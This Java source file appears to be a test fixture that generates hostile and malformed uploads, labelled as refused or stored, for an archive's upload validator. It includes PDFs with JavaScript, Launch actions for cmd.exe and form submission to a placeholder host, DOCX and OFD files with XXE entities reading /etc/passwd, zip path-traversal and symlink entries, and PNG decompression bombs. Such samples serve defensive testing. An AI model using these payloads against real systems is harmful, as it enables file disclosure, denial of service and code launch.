package org.wenshu.archive.uploads;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Consumer;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;

import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;

/**
 * Hostile and malformed uploads of every kind issue 10 names, made in code: PDFs with active content, unreadable and
 * damaged PDFs, DOCX with external relationships, hostile OFD packages, broken images, blank file names. Each sample
 * says whether an archive may keep it. {@code main(dir)} writes them to a directory for runs through the CLI.
 */
public final class HostileFiles {

    /** One upload: its kind, the name it is uploaded under, its bytes and whether it may be stored. */
    public record Sample(String kind, String name, byte[] content, boolean storable) {
        @Override
        public String toString() {
            return kind + " " + name;
        }
    }

    private HostileFiles() {
    }

    /** Every sample, hostile ones and the clean controls beside them. */
    public static List<Sample> all() {
        List<Sample> samples = new ArrayList<>();
        samples.addAll(activePdfs());
        samples.addAll(unreadablePdfs());
        samples.addAll(damagedPdfs());
        samples.addAll(docx());
        samples.addAll(ofd());
        samples.addAll(images());
        samples.addAll(names());
        return samples;
    }

    // ---- 1. active content ----

    static List<Sample> activePdfs() {
        return List.of(
                refused("pdf-active", "openaction-js.pdf", pdf(d -> catalog(d).setItem(COSName.getPDFName("OpenAction"), js()))),
                refused("pdf-active", "names-js.pdf", pdf(d -> catalog(d).setItem(COSName.NAMES, dict("JavaScript",
                        dict("Names", array(new COSString("init"), js())))))),
                refused("pdf-active", "page-aa.pdf", pdf(d -> page(d).setItem(COSName.AA, dict("O", js())))),
                refused("pdf-active", "catalog-aa.pdf", pdf(d -> catalog(d).setItem(COSName.AA, dict("WC", js())))),
                refused("pdf-active", "openaction-launch.pdf", pdf(d -> catalog(d).setItem(COSName.getPDFName("OpenAction"),
                        action("Launch", "F", new COSString("cmd.exe"))))),
                refused("pdf-active", "link-launch.pdf", pdf(d -> link(d, action("Launch", "F", new COSString("calc.exe"))))),
                refused("pdf-active", "embedded-file.pdf", pdf(d -> catalog(d).setItem(COSName.NAMES, dict("EmbeddedFiles",
                        dict("Names", array(new COSString("payload.exe"), fileSpec(d))))))),
                refused("pdf-active", "file-attachment-annotation.pdf", pdf(d -> {
                    COSDictionary annotation = dict("Type", COSName.ANNOT, "Subtype", COSName.getPDFName("FileAttachment"),
                            "Rect", rect(), "FS", fileSpec(d));
                    annotations(d).add(annotation);
                })),
                refused("pdf-active", "link-submitform.pdf", pdf(d -> link(d, action("SubmitForm", "F",
                        new COSString("http://example.invalid/collect"))))),
                refused("pdf-active", "link-gotor.pdf", pdf(d -> link(d, action("GoToR", "F", new COSString("other.pdf"))))),
                refused("pdf-active", "link-next-js.pdf", pdf(d -> {
                    COSDictionary go = action("GoTo", "D", array(d.getPage(0).getCOSObject(), COSName.getPDFName("Fit")));
                    go.setItem(COSName.getPDFName("Next"), js());
                    link(d, go);
                })),
                refused("pdf-active", "openaction-uri.pdf", pdf(d -> catalog(d).setItem(COSName.getPDFName("OpenAction"),
                        action("URI", "URI", new COSString("http://example.invalid/beacon"))))),
                refused("pdf-active", "xfa-form.pdf", pdf(d -> catalog(d).setItem(COSName.ACRO_FORM,
                        dict("Fields", new COSArray(), "XFA", stream(d, "<xdp:xdp/>"))))),
                refused("pdf-active", "raw-js-uncompressed.pdf", rawWithCatalogExtra("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
                stored("pdf-active", "link-uri-control.pdf", pdf(d -> link(d, action("URI", "URI",
                        new COSString("https://www.12309.gov.cn/"))))),
                stored("pdf-active", "plain-control.pdf", pdf(d -> { })));
    }

    // ---- 2. unreadable structure ----

    static List<Sample> unreadablePdfs() {
        return List.of(
                refused("pdf-unreadable", "deep-array.pdf", rawWithCatalogExtra("/X " + "[".repeat(100_000) + "]".repeat(100_000))),
                refused("pdf-unreadable", "deep-dictionary.pdf", rawWithCatalogExtra("/X " + "<< /A ".repeat(50_000) + ">>".repeat(50_000))),
                refused("pdf-unreadable", "deep-page-tree.pdf", deepPageTree(20_000)),
                refused("pdf-unreadable", "page-tree-cycle.pdf", pageTreeCycle()),
                refused("pdf-unreadable", "page-tree-self-kid.pdf", pageTreeSelfKid()),
                refused("pdf-unreadable", "no-pages.pdf", noPages()),
                refused("pdf-unreadable", "deep-content-array.pdf", deepContent()));
    }

    // ---- 3. damage ----

    static List<Sample> damagedPdfs() {
        byte[] clean = RawPdf.onePage("Reply of the city education bureau").bytes();
        String text = new String(clean, StandardCharsets.ISO_8859_1);
        byte[] compressed = pdf(d -> { });
        List<Sample> samples = new ArrayList<>();
        samples.add(stored("pdf-damaged", "classic-control.pdf", clean));
        samples.add(refused("pdf-damaged", "cut-trailer.pdf", Arrays.copyOf(clean, text.indexOf("trailer"))));
        samples.add(refused("pdf-damaged", "cut-in-xref.pdf", Arrays.copyOf(clean, text.indexOf("xref") + 40)));
        samples.add(refused("pdf-damaged", "no-xref.pdf", latin1(text.substring(0, text.indexOf("xref"))
                + text.substring(text.indexOf("trailer")))));
        samples.add(refused("pdf-damaged", "wrong-startxref.pdf", latin1(text.replaceFirst("startxref\n\\d+",
                "startxref\n" + (text.indexOf("xref") - 37)))));
        samples.add(refused("pdf-damaged", "startxref-past-end.pdf", latin1(text.replaceFirst("startxref\n\\d+", "startxref\n999999"))));
        samples.add(refused("pdf-damaged", "shifted-xref.pdf", latin1(shiftXref(text))));
        samples.add(refused("pdf-damaged", "no-eof.pdf", latin1(text.replace("%%EOF", ""))));
        samples.add(refused("pdf-damaged", "garbled-object-header.pdf", latin1(text.replace("3 0 obj", "3 0 obk"))));
        samples.add(refused("pdf-damaged", "wrong-stream-length.pdf", latin1(text.replaceFirst("/Length \\d+", "/Length 9"))));
        samples.add(refused("pdf-damaged", "corrupt-flate.pdf", corruptFlate(compressed)));
        Random random = new Random(10);
        for (int i = 0; i < 4; i++) {
            byte[] flipped = compressed.clone();
            for (int f = 0; f < 8; f++) {
                int at = 16 + random.nextInt(flipped.length - 16 - 8);
                flipped[at] ^= (byte) (1 + random.nextInt(255));
            }
            samples.add(refused("pdf-damaged", "random-flips-" + i + ".pdf", flipped));
        }
        return samples;
    }

    // ---- 4. DOCX ----

    static List<Sample> docx() {
        return List.of(
                stored("docx", "plain-control.docx", docx(Map.of())),
                refused("docx", "attached-template.docx", docx(Map.of(
                        "word/settings.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:settings xmlns:w=\"" + W + "\" "
                                + "xmlns:r=\"" + R + "\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>",
                        "word/_rels/settings.xml.rels", rels("<Relationship Id=\"rId1\" Type=\"" + REL
                                + "attachedTemplate\" Target=\"http://example.invalid/t.dotm\" TargetMode=\"External\"/>"),
                        "word/_rels/document.xml.rels", rels("<Relationship Id=\"rId9\" Type=\"" + REL
                                + "settings\" Target=\"settings.xml\"/>")))),
                refused("docx", "remote-image.docx", docx(Map.of("word/_rels/document.xml.rels", rels(
                        "<Relationship Id=\"rId5\" Type=\"" + REL + "image\" Target=\"\\\\203.0.113.9\\share\\a.png\" "
                                + "TargetMode=\"External\"/>")))),
                refused("docx", "remote-frame.docx", docx(Map.of("word/_rels/document.xml.rels", rels(
                        "<Relationship Id=\"rId6\" Type=\"" + REL + "frame\" Target=\"http://example.invalid/f.html\" "
                                + "TargetMode=\"External\"/>")))),
                refused("docx", "ole-object.docx", docx(Map.of("word/embeddings/oleObject1.bin", "MZ payload",
                        "word/_rels/document.xml.rels", rels("<Relationship Id=\"rId7\" Type=\"" + REL
                                + "oleObject\" Target=\"embeddings/oleObject1.bin\"/>")))),
                refused("docx", "doctype.docx", docx(Map.of("word/document.xml", "<?xml version=\"1.0\"?><!DOCTYPE d ["
                        + "<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w:document xmlns:w=\"" + W + "\"><w:body><w:p><w:r>"
                        + "<w:t>&x;</w:t></w:r></w:p></w:body></w:document>"))),
                stored("docx", "hyperlink-control.docx", docx(Map.of("word/_rels/document.xml.rels", rels(
                        "<Relationship Id=\"rId8\" Type=\"" + REL + "hyperlink\" Target=\"https://www.12309.gov.cn/\" "
                                + "TargetMode=\"External\"/>")))));
    }

    // ---- 5. OFD ----

    static List<Sample> ofd() {
        return List.of(
                stored("ofd", "plain-control.ofd", ofdZip(new RawZip())),
                refused("ofd", "dotdot-entry.ofd", ofdZip(new RawZip().add("../../evil.xml", "<x/>"))),
                refused("ofd", "absolute-entry.ofd", ofdZip(new RawZip().add("/etc/cron.d/evil", "x"))),
                refused("ofd", "backslash-entry.ofd", ofdZip(new RawZip().add("Doc_0\\..\\..\\evil.xml", "<x/>"))),
                refused("ofd", "drive-entry.ofd", ofdZip(new RawZip().add("C:/Windows/evil.xml", "<x/>"))),
                refused("ofd", "symlink-entry.ofd", ofdZip(new RawZip().symlink("Doc_0/Res/link", "/etc/passwd"))),
                refused("ofd", "duplicate-entry.ofd", ofdZip(new RawZip().add("Doc_0/Document.xml", DOCUMENT_XML))),
                refused("ofd", "xxe-ofd-xml.ofd", new RawZip().add("OFD.xml", "<?xml version=\"1.0\"?><!DOCTYPE o [<!ENTITY x "
                                + "SYSTEM \"file:///etc/passwd\">]>" + OFD_XML.replace("Doc_0/Document.xml", "&x;"))
                        .add("Doc_0/Document.xml", DOCUMENT_XML).add("Doc_0/Pages/Page_0/Content.xml", content("整改报告")).bytes()),
                refused("ofd", "dtd-in-document.ofd", new RawZip().add("OFD.xml", OFD_XML).add("Doc_0/Document.xml",
                                "<?xml version=\"1.0\"?><!DOCTYPE lol [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;\">]>"
                                        + DOCUMENT_XML.substring(DOCUMENT_XML.indexOf("<ofd:Document")))
                        .add("Doc_0/Pages/Page_0/Content.xml", content("整改报告")).bytes()),
                refused("ofd", "no-docroot.ofd", new RawZip().add("OFD.xml", "<ofd:OFD xmlns:ofd=\"" + OFD_NS + "\" "
                        + "Version=\"1.0\" DocType=\"OFD\"><ofd:DocBody/></ofd:OFD>").add("Doc_0/Document.xml", DOCUMENT_XML).bytes()),
                refused("ofd", "docroot-missing.ofd", new RawZip().add("OFD.xml", OFD_XML.replace("Doc_0/Document.xml",
                        "Doc_9/Document.xml")).add("Doc_0/Document.xml", DOCUMENT_XML).bytes()),
                refused("ofd", "page-missing.ofd", new RawZip().add("OFD.xml", OFD_XML).add("Doc_0/Document.xml", DOCUMENT_XML).bytes()),
                refused("ofd", "not-xml.ofd", new RawZip().add("OFD.xml", "this is not xml").bytes()));
    }

    // ---- 6. images ----

    static List<Sample> images() {
        byte[] jpeg = image("jpg");
        byte[] png = image("png");
        return List.of(
                stored("image", "control.jpg", jpeg),
                stored("image", "control.png", png),
                refused("image", "truncated.jpg", Arrays.copyOf(jpeg, jpeg.length * 2 / 3)),
                refused("image", "truncated-at-half.jpg", Arrays.copyOf(jpeg, jpeg.length / 2)),
                refused("image", "truncated.png", Arrays.copyOf(png, png.length * 2 / 3)),
                refused("image", "ztxt-bomb.png", withChunk(png, "zTXt", ztxt(64 << 20))),
                refused("image", "itxt-bomb.png", withChunk(png, "iTXt", itxt(64 << 20))),
                refused("image", "bad-crc.png", badCrc(png)));
    }

    // ---- 7. names ----

    static List<Sample> names() {
        byte[] pdf = RawPdf.onePage("Reply").bytes();
        return List.of(
                stored("name", ".pdf", pdf),
                stored("name", "  .pdf", pdf),
                stored("name", "\u200B\u200D.pdf", pdf),
                stored("name", "....pdf", pdf),
                stored("name", "\u3000\u00A0.pdf", pdf));
    }

    /** Writes every sample into {@code args[0]}, numbered so equal names do not collide. */
    public static void main(String[] args) throws IOException {
        Path dir = Path.of(args[0]);
        Files.createDirectories(dir);
        List<Sample> samples = all();
        StringBuilder index = new StringBuilder();
        for (int i = 0; i < samples.size(); i++) {
            Sample sample = samples.get(i);
            Path sub = Files.createDirectories(dir.resolve(String.format("%02d", i)));
            Files.write(sub.resolve(sample.name()), sample.content());
            index.append(String.format("%02d", i)).append('\t').append(sample.kind()).append('\t').append(sample.storable())
                    .append('\t').append(sample.name()).append('\n');
        }
        Files.writeString(dir.resolve("index.tsv"), index);
    }

    // ---- PDF building blocks ----

    private static Sample refused(String kind, String name, byte[] content) {
        return new Sample(kind, name, content, false);
    }

    private static Sample stored(String kind, String name, byte[] content) {
        return new Sample(kind, name, content, true);
    }

    /** A one-page PDF with text, changed by {@code customise}, saved by PDFBox 3 (object and xref streams). */
    static byte[] pdf(Consumer<PDDocument> customise) {
        try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDPage page = new PDPage();
            document.addPage(page);
            try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                content.beginText();
                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                content.newLineAtOffset(72, 700);
                content.showText("Rectification report");
                content.endText();
            }
            customise.accept(document);
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static COSDictionary catalog(PDDocument document) {
        return document.getDocumentCatalog().getCOSObject();
    }

    private static COSDictionary page(PDDocument document) {
        return document.getPage(0).getCOSObject();
    }

    private static COSDictionary js() {
        return action("JavaScript", "JS", new COSString("app.alert('x')"));
    }

    private static COSDictionary action(String type, String key, org.apache.pdfbox.cos.COSBase value) {
        return dict("Type", COSName.getPDFName("Action"), "S", COSName.getPDFName(type), key, value);
    }

    private static void link(PDDocument document, COSDictionary action) {
        annotations(document).add(dict("Type", COSName.ANNOT, "Subtype", COSName.LINK, "Rect", rect(), "A", action));
    }

    private static COSArray annotations(PDDocument document) {
        COSArray annotations = new COSArray();
        page(document).setItem(COSName.ANNOTS, annotations);
        return annotations;
    }

    private static COSArray rect() {
        return array(org.apache.pdfbox.cos.COSInteger.get(72), org.apache.pdfbox.cos.COSInteger.get(72),
                org.apache.pdfbox.cos.COSInteger.get(200), org.apache.pdfbox.cos.COSInteger.get(100));
    }

    private static COSDictionary fileSpec(PDDocument document) {
        COSStream file = stream(document, "MZ this would be an executable");
        file.setItem(COSName.TYPE, COSName.getPDFName("EmbeddedFile"));
        return dict("Type", COSName.getPDFName("Filespec"), "F", new COSString("payload.exe"), "EF", dict("F", file));
    }

    private static COSStream stream(PDDocument document, String data) {
        COSStream stream = document.getDocument().createCOSStream();
        try (OutputStream out = stream.createOutputStream()) {
            out.write(data.getBytes(StandardCharsets.ISO_8859_1));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return stream;
    }

    private static COSDictionary dict(Object... keysAndValues) {
        COSDictionary dictionary = new COSDictionary();
        for (int i = 0; i < keysAndValues.length; i += 2) {
            dictionary.setItem(COSName.getPDFName((String) keysAndValues[i]), (org.apache.pdfbox.cos.COSBase) keysAndValues[i + 1]);
        }
        return dictionary;
    }

    private static COSArray array(org.apache.pdfbox.cos.COSBase... items) {
        COSArray array = new COSArray();
        for (org.apache.pdfbox.cos.COSBase item : items) {
            array.add(item);
        }
        return array;
    }

    private static byte[] rawWithCatalogExtra(String extra) {
        RawPdf pdf = RawPdf.onePage("Reply");
        pdf.set(1, "<< /Type /Catalog /Pages 2 0 R " + extra + " >>");
        return pdf.bytes();
    }

    /** Pages nodes nested {@code depth} levels, the last holding the one page. */
    static byte[] deepPageTree(int depth) {
        RawPdf pdf = new RawPdf();
        pdf.add("<< /Type /Catalog /Pages 2 0 R >>");
        for (int level = 0; level < depth; level++) {
            int self = level + 2;
            pdf.add("<< /Type /Pages /Kids [" + (self + 1) + " 0 R] /Count 1"
                    + (level == 0 ? "" : " /Parent " + (self - 1) + " 0 R") + " >>");
        }
        int page = depth + 2;
        pdf.add("<< /Type /Page /Parent " + (page - 1) + " 0 R /MediaBox [0 0 595 842] /Contents " + (page + 1) + " 0 R >>");
        pdf.add(RawPdf.stream("", "BT ET"));
        return pdf.bytes();
    }

    private static byte[] pageTreeCycle() {
        RawPdf pdf = RawPdf.onePage("Reply");
        pdf.set(2, "<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>");
        pdf.add("<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>");
        return pdf.bytes();
    }

    private static byte[] pageTreeSelfKid() {
        RawPdf pdf = RawPdf.onePage("Reply");
        pdf.set(2, "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>");
        return pdf.bytes();
    }

    private static byte[] noPages() {
        RawPdf pdf = RawPdf.onePage("Reply");
        pdf.set(2, "<< /Type /Pages /Kids [] /Count 0 >>");
        return pdf.bytes();
    }

    private static byte[] deepContent() {
        RawPdf pdf = RawPdf.onePage("Reply");
        pdf.set(4, RawPdf.stream("", "BT /F1 12 Tf 72 720 Td " + "[".repeat(100_000) + "]".repeat(100_000) + " TJ ET"));
        return pdf.bytes();
    }

    private static String shiftXref(String text) {
        int start = text.indexOf("xref");
        StringBuilder table = new StringBuilder();
        java.util.regex.Matcher entry = java.util.regex.Pattern.compile("(\\d{10}) 00000 n").matcher(text.substring(start));
        int last = 0;
        String tail = text.substring(start);
        while (entry.find()) {
            table.append(tail, last, entry.start()).append(String.format("%010d 00000 n", Long.parseLong(entry.group(1)) + 7));
            last = entry.end();
        }
        table.append(tail.substring(last));
        return text.substring(0, start) + table;
    }

    /** Flips bytes in the middle of the first FlateDecode stream's data. */
    private static byte[] corruptFlate(byte[] pdf) {
        String text = new String(pdf, StandardCharsets.ISO_8859_1);
        int data = text.indexOf("stream", text.indexOf("/FlateDecode")) + "stream\r\n".length();
        int end = text.indexOf("endstream", data);
        byte[] damaged = pdf.clone();
        int middle = (data + end) / 2;
        damaged[middle] ^= 0x55;
        damaged[middle + 1] ^= 0x33;
        return damaged;
    }

    private static byte[] latin1(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    // ---- DOCX building blocks ----

    private static final String W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    private static final String R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private static final String REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private static String rels(String relationships) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships "
                + "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" + relationships + "</Relationships>";
    }

    /** A minimal DOCX; {@code parts} add or replace entries. */
    static byte[] docx(Map<String, String> parts) {
        Map<String, String> entries = new LinkedHashMap<>();
        entries.put("[Content_Types].xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                + "<Default Extension=\"bin\" ContentType=\"application/vnd.openxmlformats-officedocument.oleObject\"/>"
                + "<Override PartName=\"/word/document.xml\" "
                + "ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
                + "</Types>");
        entries.put("_rels/.rels", rels("<Relationship Id=\"rId1\" Type=\"" + REL + "officeDocument\" Target=\"word/document.xml\"/>"));
        entries.put("word/document.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w=\"" + W + "\"><w:body>"
                + "<w:p><w:r><w:t>整改情况报告</w:t></w:r></w:p></w:body></w:document>");
        entries.putAll(parts);
        try (ByteArrayOutputStream out = new ByteArrayOutputStream(); ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, String> entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue().getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
            zip.finish();
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    // ---- OFD building blocks ----

    private static final String OFD_NS = "http://www.ofdspec.org/2016";
    private static final String OFD_XML = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><ofd:OFD xmlns:ofd=\"" + OFD_NS
            + "\" Version=\"1.0\" DocType=\"OFD\"><ofd:DocBody><ofd:DocInfo><ofd:DocID>a1</ofd:DocID></ofd:DocInfo>"
            + "<ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>";
    private static final String DOCUMENT_XML = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><ofd:Document xmlns:ofd=\"" + OFD_NS
            + "\"><ofd:CommonData><ofd:MaxUnitID>10</ofd:MaxUnitID></ofd:CommonData><ofd:Pages>"
            + "<ofd:Page ID=\"1\" BaseLoc=\"Pages/Page_0/Content.xml\"/></ofd:Pages></ofd:Document>";

    static String content(String text) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><ofd:Page xmlns:ofd=\"" + OFD_NS + "\"><ofd:Content>"
                + "<ofd:Layer ID=\"2\"><ofd:TextObject ID=\"3\" Boundary=\"0 0 100 10\" Font=\"4\" Size=\"5\">"
                + "<ofd:TextCode X=\"0\" Y=\"5\">" + text + "</ofd:TextCode></ofd:TextObject></ofd:Layer></ofd:Content></ofd:Page>";
    }

    /** A well-formed OFD package with the entries of {@code extra} appended. */
    private static byte[] ofdZip(RawZip extra) {
        return new RawZip().add("OFD.xml", OFD_XML).add("Doc_0/Document.xml", DOCUMENT_XML)
                .add("Doc_0/Pages/Page_0/Content.xml", content("整改情况报告")).append(extra).bytes();
    }

    // ---- image building blocks ----

    static byte[] image(String format) {
        BufferedImage image = new BufferedImage(400, 300, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = image.createGraphics();
        g.setColor(Color.WHITE);
        g.fillRect(0, 0, 400, 300);
        g.setColor(Color.BLUE);
        g.fillOval(100, 50, 200, 200);
        g.dispose();
        try (ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            ImageIO.write(image, format, out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] deflate(int zeros) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflater = new DeflaterOutputStream(out, new Deflater(Deflater.BEST_COMPRESSION))) {
            byte[] block = new byte[1 << 20];
            for (int i = 0; i < zeros / block.length; i++) {
                deflater.write(block);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] ztxt(int inflated) {
        ByteArrayOutputStream data = new ByteArrayOutputStream();
        data.writeBytes("Comment".getBytes(StandardCharsets.ISO_8859_1));
        data.write(0);
        data.write(0);
        data.writeBytes(deflate(inflated));
        return data.toByteArray();
    }

    private static byte[] itxt(int inflated) {
        ByteArrayOutputStream data = new ByteArrayOutputStream();
        data.writeBytes("Description".getBytes(StandardCharsets.ISO_8859_1));
        data.write(0);
        data.write(1);
        data.write(0);
        data.write(0);
        data.write(0);
        data.writeBytes(deflate(inflated));
        return data.toByteArray();
    }

    /** Inserts a chunk right after IHDR (signature 8 bytes + IHDR 25 bytes). */
    static byte[] withChunk(byte[] png, String type, byte[] data) {
        ByteBuffer chunk = ByteBuffer.allocate(12 + data.length);
        byte[] typeBytes = type.getBytes(StandardCharsets.ISO_8859_1);
        CRC32 crc = new CRC32();
        crc.update(typeBytes);
        crc.update(data);
        chunk.putInt(data.length).put(typeBytes).put(data).putInt((int) crc.getValue());
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(png, 0, 33);
        out.writeBytes(chunk.array());
        out.write(png, 33, png.length - 33);
        return out.toByteArray();
    }

    private static byte[] badCrc(byte[] png) {
        byte[] damaged = png.clone();
        damaged[60] ^= 0x01; // inside the first IDAT's data: its CRC no longer matches
        return damaged;
    }
}
